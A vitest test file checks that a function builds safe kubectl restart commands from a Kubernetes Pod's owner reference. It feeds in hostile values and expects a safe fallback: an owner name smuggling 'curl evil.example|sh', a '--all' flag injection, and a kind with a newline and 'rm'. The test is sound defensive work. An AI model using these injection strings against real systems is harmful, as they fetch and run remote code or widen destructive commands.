import { expect, it } from 'vitest';
import { restartCommand, workloadOf } from '../../../src/stale/workload.ts';

it.each([
  ['Deployment', 'team', 'kubectl rollout restart deployment/team -n apps'],
  ['ReplicaSet', 'team-5d9c7', 'kubectl rollout restart deployment/team -n apps'],
  ['Job', 'team', 'kubectl delete pod -n apps pod-1'],
  ['Deployment', 'team; curl evil.example|sh #', 'kubectl delete pod -n apps pod-1'],
  ['Deployment', '--all', 'kubectl delete pod -n apps pod-1'],
  ['Deployment\nrm', 'team', 'kubectl delete pod -n apps pod-1'],
])('the command for a Pod of %j %j', (kind, name, command) => {
  const pod = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name: 'pod-1',
      namespace: 'apps',
      labels: { 'pod-template-hash': '5d9c7' },
      ownerReferences: [{ apiVersion: 'apps/v1', kind, name, uid: 'u', controller: true }],
    },
  };
  expect(restartCommand(workloadOf(pod), ['pod-1'])).toBe(command);
});
